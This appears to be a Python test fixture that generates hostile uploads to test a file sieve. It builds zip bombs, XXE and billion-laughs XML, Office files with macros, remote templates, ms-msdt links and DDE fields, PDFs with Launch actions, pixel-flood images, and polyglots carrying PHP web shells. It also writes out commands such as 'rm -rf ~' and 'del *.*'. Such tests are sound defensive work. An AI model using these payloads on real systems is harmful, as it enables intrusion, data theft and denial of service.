"""Files sent to do harm, made here so that none lies about in the repository: (what it is) -> (name, bytes)."""

from __future__ import annotations

import gzip
import io
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Iterator

import pikepdf
from pikepdf import Array, Dictionary, Name
from PIL import Image

from hafan.files.sieve.kinds import ENDINGS
from hafan.files.sieve.looking import EICAR
from tests.rooms.files.ordinary import docx, jpeg, pdf, png, saved, sheet

Sent = tuple[str, str, bytes]


def all_hostile() -> list[Sent]:
    return [*matrix(), *names(), *empty_and_broken(), *office(), *archives(), *pdfs(), *pictures(), *texts()]


CONTENTS = {
    "pdf": lambda: pdf("A letter"),
    "jpeg": lambda: jpeg((40, 30)),
    "png": lambda: png((40, 30)),
    "docx": lambda: docx(["A letter"]),
    "xlsx": lambda: sheet([["a", 1]]),
    "zip": lambda: zipped({"a.txt": b"words"}),
    "exe": lambda: b"MZ\x90\x00" + bytes(300),
    "elf": lambda: b"\x7fELF\x02\x01\x01" + bytes(300),
    "html": lambda: b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>",
    "svg": lambda: b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    "xml": lambda: b'<?xml version="1.0"?><a/>',
    "gif": lambda: picture_as("GIF"),
    "webp": lambda: picture_as("WEBP"),
    "tiff": lambda: picture_as("TIFF"),
    "bmp": lambda: picture_as("BMP"),
    "rtf": lambda: rb"{\rtf1\ansi{\object\objdata 0105}}",
    "ole": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600),
    "script": lambda: b"#!/bin/sh\nrm -rf ~\n",
    "mp4": lambda: b"\x00\x00\x00\x18ftypmp42" + bytes(200),
    "7z": lambda: b"7z\xbc\xaf\x27\x1c" + bytes(100),
    "rar": lambda: b"Rar!\x1a\x07\x01\x00" + bytes(100),
    "gz": lambda: gzip.compress(b"words" * 50),
    "class": lambda: b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + bytes(50),
    "postscript": lambda: b"%!PS-Adobe-3.0\n(/etc/passwd) (r) file\n",
    "mail": lambda: b"Return-Path: <a@example.org>\r\nSubject: x\r\n\r\nwords",
    "shortcut": lambda: b"[InternetShortcut]\r\nURL=file://elsewhere.example/a\r\n",
}
SAME = {("jpeg", "jpg"), ("jpeg", "jpeg"), ("pdf", "pdf"), ("png", "png"), ("docx", "docx"), ("xlsx", "xlsx")}


def matrix() -> Iterator[Sent]:
    """Every content under every ending that is not its own."""
    for content, make in CONTENTS.items():
        data = make()
        for ending in ENDINGS:
            if (content, ending) not in SAME:
                yield f"{content} sent as {ending}", f"letter.{ending}", data


def names() -> Iterator[Sent]:
    good = pdf("A letter")
    for name in (
        "letter.pdf.exe", "letter.exe", "letter.html", "letter.svg", "letter.docm", "letter.xlsm", "letter.zip", "letter.js",
        "letter.doc", "letter.eml", "letter.lnk", "letter", "pdf", ".pdf", "letter.", "", "..pdf", "letter.pdf\x00.exe",
        "letter\u202efdp.exe", "letter\u202e.pdf", "let\u200bter.pdf", "../../letter.pdf", "a/b.pdf", "C:\\letter.pdf",
        "letter.exe.pdf", "letter.html.pdf", "invoice.js.pdf", "x" * 300 + ".pdf", "ŵ" * 130 + ".pdf", "letter\n.pdf", "letter.pdf ", "letter.php",
    ):  # fmt: skip
        yield f"named {name[:40]!r}", name, good


def empty_and_broken() -> Iterator[Sent]:
    for ending in ENDINGS:
        yield f"nothing sent as {ending}", f"a.{ending}", b""
    for ending, data in (
        ("pdf", pdf("words")),
        ("jpg", jpeg((400, 300))),
        ("png", png((400, 300))),
        ("docx", docx(["a"])),
        ("xlsx", sheet([[1]])),
    ):
        yield f"half of a {ending}", f"a.{ending}", data[: len(data) // 2]
        yield f"only the beginning of a {ending}", f"a.{ending}", data[:12]
    for ending in ("pdf", "txt", "jpg"):
        yield (
            f"too large a {ending}",
            f"a.{ending}",
            {"pdf": b"%PDF-1.7", "jpg": b"\xff\xd8\xff\xe0"}.get(ending, b"") + b"a" * (26 * 1024 * 1024),
        )


def office() -> Iterator[Sent]:
    more: dict[str, dict[str, bytes]] = {
        "macros": {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"},
        "macros under another name": {"word/vbaData.xml": b"<a/>"},
        "ActiveX": {"word/activeX/activeX1.xml": b"<a/>"},
        "an OLE object": {"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"},
        "a document inside": {"word/embeddings/inner.docx": docx(["inner"])},
        "a workbook inside": {"word/embeddings/book.xlsx": sheet([["hidden", 1]])},
        "a zip inside": {"word/media/image1.zip": zipped({"a": b"a"})},
        "a program inside": {"word/media/image1.exe": b"MZ\x90\x00"},
        "a page inside": {"word/afchunk.html": b"<script>alert(1)</script>"},
        "a vector picture inside": {"word/media/image1.svg": b"<svg onload='alert(1)'/>"},
        "its own menu": {"customUI/customUI.xml": b"<customUI onLoad='x'/>"},
        "EICAR in a part": {"word/notes.xml": b"<a>" + EICAR.replace(b"&", b"&amp;") + b"</a>"},
        "entities": {"word/styles.xml": b'<!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>'},
        "a thousand million laughs": {"word/styles.xml": laughs()},
        "a file fetched by an entity": {"word/styles.xml": b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'},
        "broken XML": {"word/styles.xml": b"<a><b></a>"},
        "XML too deep": {"word/styles.xml": b"<a>" * 5000 + b"</a>" * 5000},
        "a broken picture": {"word/media/image1.png": b"\x89PNG\r\n\x1a\n" + bytes(40)},
        "a picture that is a page": {"word/media/image1.jpg": b"<html></html>"},
        "a flood of dots": {"word/media/image1.png": flood(60_000, 60_000)},
        "a template fetched": {"word/_rels/settings.xml.rels": relation("attachedTemplate", "http://elsewhere.example/t.dotm")},
        "a picture fetched": {"word/_rels/document.xml.rels": relation("image", "http://elsewhere.example/spy.png")},
        "a frame fetched": {"word/_rels/webSettings.xml.rels": relation("frame", "\\\\elsewhere.example\\share")},
        "an object fetched": {"word/_rels/document.xml.rels": relation("oleObject", "mhtml:http://elsewhere.example/x.html!x-usc:")},
        "a link to a program": {"word/_rels/document.xml.rels": relation("hyperlink", "ms-msdt:/id PCWDiagnostic")},
        "a link that runs": {"word/_rels/document.xml.rels": relation("hyperlink", "javascript:alert(1)")},
        "a link to a local file": {"word/_rels/document.xml.rels": relation("hyperlink", "file:///c:/windows/system32/cmd.exe")},
        "a field that runs": {"word/header1.xml": b"<w:a xmlns:w='w'><w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe</w:instrText></w:a>"},
    }  # fmt: skip
    for what, parts in more.items():
        yield f"Word with {what}", "letter.docx", docx(["words"], more=parts)
    for what, part in {
        "macros": "xl/vbaProject.bin", "old macros": "xl/macrosheets/sheet1.xml", "dialogues": "xl/dialogsheets/sheet1.xml",
        "another book linked": "xl/externalLinks/externalLink1.xml", "a data model": "xl/model/item.data", "controls": "xl/ctrlProps/ctrlProp1.xml",
        "an object": "xl/embeddings/oleObject1.bin", "active parts": "xl/activeX/activeX1.bin",
    }.items():  # fmt: skip
        yield f"Excel with {what}", "table.xlsx", with_parts(sheet([[1]]), {part: b"<a/>"})
    yield (
        "Excel that asks another program",
        "table.xlsx",
        with_parts(sheet([[1]]), {"xl/worksheets/x.xml": b"<x><ddeLink service='cmd'/></x>"}),
    )
    yield (
        "Word with macros, renamed",
        "letter.docx",
        docx(["a"], content_type="application/vnd.ms-word.document.macroEnabled.main+xml"),
    )
    yield "Word sent as Excel", "table.xlsx", docx(["a"])
    yield "Excel sent as Word", "letter.docx", sheet([[1]])
    yield (
        "a locked Word file",
        "letter.docx",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "EncryptedPackage".encode("utf-16le") + bytes(2000),
    )
    yield "Word with a locked part", "letter.docx", locked(docx(["words"]))


def archives() -> Iterator[Sent]:
    yield (
        "a bomb of zeros",
        "letter.docx",
        with_parts(docx(["a"]), {"word/big.xml": b"<a>" + b" " * 60_000_000 + b"</a>"}),
    )
    yield (
        "a bomb of many parts",
        "letter.docx",
        with_parts(docx(["a"]), {f"word/p{n}.xml": b"<a/>" for n in range(2_500)}),
    )
    yield (
        "bombs that add up",
        "letter.docx",
        with_parts(docx(["a"]), {f"word/p{n}.xml": b"<a>" + noisy(13) + b"</a>" for n in range(12)}),
    )
    yield "parts that lie over each other", "letter.docx", overlapping()
    for where in (
        "../../etc/cron.d/x.xml",
        "/etc/passwd.xml",
        "word/../../x.xml",
        "C:/x.xml",
        "word\\..\\x.xml",
    ):
        yield f"a part that climbs out: {where}", "letter.docx", with_parts(docx(["a"]), {where: b"<a/>"})
    yield "one name twice", "letter.docx", twice()
    yield "a part that is a link", "letter.docx", symlink(docx(["a"]))
    yield "a zip with something before it", "letter.docx", b"PK\x03\x04" + bytes(200) + docx(["a"])
    yield "a zip with something after it", "letter.docx", docx(["a"]) + b"<script>alert(1)</script>"
    yield "a zip with a remark", "letter.docx", remarked(docx(["a"]), b"<script>alert(1)</script>")
    yield "a zip that lies about sizes", "letter.docx", lying(docx(["a" * 5000]))
    tape = io.BytesIO()
    with tarfile.open(fileobj=tape, mode="w"):
        pass
    yield "a tape sent as text", "a.txt", tape.getvalue()
    for ending in ("docx", "xlsx"):
        yield f"zips in zips sent as {ending}", f"a.{ending}", nested(6)


def pdfs() -> Iterator[Sent]:
    reaching = {
        "that starts a program": Dictionary(S=Name.Launch, F="cmd.exe"),
        "that fetches data": Dictionary(S=Name.ImportData, F="data.fdf"),
        "that opens a file inside": Dictionary(S=Name.GoToE, D="x"),
        "that plays": Dictionary(S=Name.Rendition, OP=0),
        "that runs rich media": Dictionary(S=Name.RichMediaExecute),
        "that turns models": Dictionary(S=Name.GoTo3DView),
    }
    for what, action in reaching.items():
        for place in ("the page", "a link", "an outline"):
            yield f"PDF {what} from {place}", "letter.pdf", acting(Dictionary(action), place)
    for plays in ("RichMedia", "Movie", "Screen", "Sound", "3D"):
        yield (
            f"PDF with {plays} on the page",
            "letter.pdf",
            noted(Dictionary(Type=Name.Annot, Subtype=Name("/" + plays), Rect=[0, 0, 9, 9])),
        )
    yield "PDF that is a moving form", "letter.pdf", xfa()
    yield (
        "PDF locked with a password",
        "letter.pdf",
        saved_pdf(lambda p: None, encryption=pikepdf.Encryption(owner="o", user="u")),
    )
    yield "PDF without pages", "letter.pdf", saved_pdf(lambda p: p.pages.__delitem__(0))
    yield "PDF whose picture is elsewhere", "letter.pdf", saved_pdf(outside_stream)
    yield "PDF with a flood of dots", "letter.pdf", saved_pdf(flooding)
    yield "PDF with filters on filters", "letter.pdf", saved_pdf(chained)
    yield "PDF nested without end", "letter.pdf", saved_pdf(deep)
    yield "PDF that is a zip as well", "letter.pdf", pdf("words") + zipped({"a.html": b"<script>"})
    yield "PDF with a program behind it", "letter.pdf", pdf("words") + b"MZ\x90\x00" + bytes(400)
    yield "PDF with a page behind it", "letter.pdf", pdf("words") + b"\n<script>alert(1)</script>"
    yield "PDF with EICAR behind it", "letter.pdf", pdf("words") + EICAR
    yield "PDF with EICAR before it", "letter.pdf", EICAR + pdf("words")
    yield "PDF that only begins like one", "letter.pdf", b"%PDF-1.7\n" + bytes(3000)
    yield "PDF that is words", "letter.pdf", b"%PDF-1.7\nhello\n%%EOF"


def pictures() -> Iterator[Sent]:
    yield "a flood of dots", "photo.png", flood(30_000, 30_000)
    yield "a flood of dots that says it is small", "photo.png", flood(50_000, 50_000, beside=(10, 10))
    yield "a wide flood", "photo.png", flood(2_000_000_000, 1)
    yield "a flood as JPEG", "photo.jpg", jpeg_saying(65_000, 65_000)
    yield "a picture just too large", "photo.png", saved(Image.new("1", (8000, 6500)), "PNG")
    for ending, data in (("jpg", jpeg((40, 30))), ("png", png((40, 30)))):
        for what, tail in (
            ("a zip", zipped({"a": b"a"})), ("a program", b"MZ\x90\x00" + bytes(99)), ("a page", b"<script>alert(1)</script>"),
            ("a PDF", pdf("x")), ("PHP", b"<?php system($_GET['c']); ?>"), ("an archive", b"Rar!\x1a\x07\x00"), ("EICAR", EICAR),
        ):  # fmt: skip
            yield f"{ending} with {what} behind it", f"photo.{ending}", data + tail
    for words in (b"<?php eval($_POST[1]); ?>", b"<script>alert(1)</script>", b"%PDF-1.7 hidden", EICAR):
        yield f"JPEG with {words[:8]!r} in a remark", "photo.jpg", remark(jpeg((40, 30)), words)
    yield "HEIC that is nothing", "photo.heic", b"\x00\x00\x00\x18ftypheic" + bytes(400)
    yield "HEIC cut short", "photo.heic", b"\x00\x00\x00\x18ftypheic"
    yield "PNG with a broken sum", "photo.png", png((40, 30))[:60] + b"\xff\xff" + png((40, 30))[62:]


def texts() -> Iterator[Sent]:
    for ending in ("txt", "csv"):
        for what, data in {
            "EICAR": EICAR, "noughts": b"a\x00b\n", "controls": b"a\x1b[2Jb\n", "a page": b"<HTML><script>alert(1)</script>",
            "a page further on": b"words\n" * 20 + b"<script src=//elsewhere.example/x></script>", "a frame": b"hello <iframe src=x>",
            "only spaces": b"  \n\t \n", "UTF-16 that is broken": b"\xff\xfea", "a vector picture": b"\n\n<svg/onload=alert(1)>", "a calendar": b"BEGIN:VCALENDAR\n",
            "a batch": b"@echo off\r\ndel *.*", "Excel's old words": b"ID;PWXL;N;E\nC;Y1;X1;K0;ECMD|'/c calc'!A1\n",
        }.items():  # fmt: skip
            yield f"{ending} with {what}", f"note.{ending}", data
    yield "one cell without end", "table.csv", b'"' + b"a" * 200_000


# How they are made


def zipped(parts: dict[str, bytes]) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as written:
        for name, data in parts.items():
            written.writestr(name, data)
    return made.getvalue()


def with_parts(data: bytes, parts: dict[str, bytes]) -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as read:
        held = {name: read.read(name) for name in read.namelist()}
    return zipped({**held, **parts})


def nested(depth: int) -> bytes:
    inner = zipped({"zeros.bin": bytes(1_000_000)})
    for _ in range(depth):
        inner = zipped({f"{n}.zip": inner for n in range(8)})
    return inner


def noisy(megabytes: int) -> bytes:
    return b"".join(b"<b>%d</b>" % n for n in range(megabytes * 1_000_000 // 14))


def twice() -> bytes:
    return with_parts(docx(["a"]), {"Word/Document.xml": b"<a/>"})


def symlink(data: bytes) -> bytes:
    made = io.BytesIO(data)
    with zipfile.ZipFile(made, "a") as written:
        link = zipfile.ZipInfo("word/link.xml")
        link.external_attr = 0o120777 << 16
        written.writestr(link, "/etc/passwd")
    return made.getvalue()


def remarked(data: bytes, words: bytes) -> bytes:
    made = io.BytesIO(data)
    with zipfile.ZipFile(made, "a") as written:
        written.comment = words
    return made.getvalue()


def locked(data: bytes) -> bytes:
    """The flag that says a part is locked, set in the table of contents."""
    changed, at = bytearray(data), 0
    while (at := changed.find(b"PK\x01\x02", at)) >= 0:
        changed[at + 8] |= 1
        at += 4
    return bytes(changed)


def lying(data: bytes) -> bytes:
    """A part that says it unpacks to ten bytes."""
    changed, at = bytearray(data), data.find(b"PK\x01\x02")
    changed[at + 24 : at + 28] = struct.pack("<I", 10)
    return bytes(changed)


def overlapping() -> bytes:
    """Many entries in the table of contents for one packed part."""
    data = docx(["a"], more={"word/big.xml": b"<a>" + b" " * 3_000_000 + b"</a>"})
    end = data.rfind(b"PK\x05\x06")
    start = struct.unpack("<I", data[end + 16 : end + 20])[0]
    table, at, lines = data[start:end], 0, []
    while at < len(table):
        n, m, k = struct.unpack("<HHH", table[at + 28 : at + 34])
        lines.append(table[at : at + 46 + n + m + k])
        at += 46 + n + m + k
    big = next(line for line in lines if b"word/big.xml" in line)
    lines += [big.replace(b"word/big.xml", b"word/%04d.xml" % number) for number in range(300)]
    new = b"".join(lines)
    tail = bytearray(data[end:])
    tail[8:12] = struct.pack("<HH", len(lines), len(lines))
    tail[12:16] = struct.pack("<I", len(new))
    return data[:start] + new + bytes(tail)


def laughs() -> bytes:
    lines = [b'<!ENTITY l0 "lol">'] + [
        b'<!ENTITY l%d "%s">' % (n, b"&l%d;" % (n - 1) * 10) for n in range(1, 10)
    ]
    return b"<!DOCTYPE a [" + b"".join(lines) + b"]><a>&l9;</a>"


def relation(kind: str, target: str) -> bytes:
    return (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId99" '
        f'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" Target="{target}" TargetMode="External"/></Relationships>'
    ).encode()


def saved_pdf(change, **options) -> bytes:
    made = io.BytesIO()
    with pikepdf.new() as written:
        written.add_blank_page()
        change(written)
        written.save(made, **options)
    return made.getvalue()


def acting(action: Dictionary, place: str) -> bytes:
    def change(p: pikepdf.Pdf) -> None:
        if place == "the page":
            p.pages[0].obj["/AA2"] = p.make_indirect(action)
        elif place == "a link":
            p.pages[0].obj["/Annots"] = Array(
                [Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9], A=action)]
            )
        else:
            p.Root["/Outlines"] = p.make_indirect(Dictionary(First=Dictionary(Title="x", A=action), Count=1))

    return saved_pdf(change)


def noted(note: Dictionary) -> bytes:
    return saved_pdf(lambda p: p.pages[0].obj.__setitem__("/Annots", Array([note])))


def xfa() -> bytes:
    return saved_pdf(
        lambda p: p.Root.__setitem__("/AcroForm", Dictionary(XFA=p.make_stream(b"<xdp/>"), Fields=Array([])))
    )


def outside_stream(p: pikepdf.Pdf) -> None:
    stream = p.make_stream(b"")
    stream["/F"] = pikepdf.String("\\\\elsewhere.example\\share\\x")
    p.pages[0].obj["/Contents"] = stream


def flooding(p: pikepdf.Pdf) -> None:
    picture = p.make_stream(zlib.compress(bytes(100)))
    for key, value in {
        "/Type": Name.XObject,
        "/Subtype": Name.Image,
        "/Width": 100_000,
        "/Height": 100_000,
        "/ColorSpace": Name.DeviceGray,
        "/BitsPerComponent": 8,
        "/Filter": Name.FlateDecode,
    }.items():
        picture[key] = value
    p.pages[0].obj["/Resources"] = Dictionary(XObject=Dictionary(I0=picture))


def chained(p: pikepdf.Pdf) -> None:
    stream = p.make_stream(b"")
    stream.write(b"00>", filter=Array([Name.ASCIIHexDecode] * 8))
    p.pages[0].obj["/Contents"] = stream


def deep(p: pikepdf.Pdf) -> None:
    inner: pikepdf.Object = Array([])
    for _ in range(150):
        inner = Array([inner])
    p.Root["/Deep"] = inner


def picture_as(form: str) -> bytes:
    return saved(Image.new("RGB", (40, 30), "teal"), form)


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def flood(width: int, height: int, beside: tuple[int, int] | None = None) -> bytes:
    """A PNG of a few bytes that says it is enormous; `beside` writes a small header first."""
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    first = chunk(b"IHDR", struct.pack(">IIBBBBB", *beside, 8, 2, 0, 0, 0)) if beside else b""
    return (
        b"\x89PNG\r\n\x1a\n"
        + first
        + head
        + chunk(b"IDAT", zlib.compress(bytes(1_000_000)))
        + chunk(b"IEND", b"")
    )


def jpeg_saying(width: int, height: int) -> bytes:
    data = bytearray(jpeg((40, 30)))
    at = data.find(b"\xff\xc0")
    data[at + 5 : at + 9] = struct.pack(">HH", height, width)
    return bytes(data)


def remark(data: bytes, words: bytes) -> bytes:
    return data[:2] + b"\xff\xfe" + struct.pack(">H", len(words) + 2) + words + data[2:]
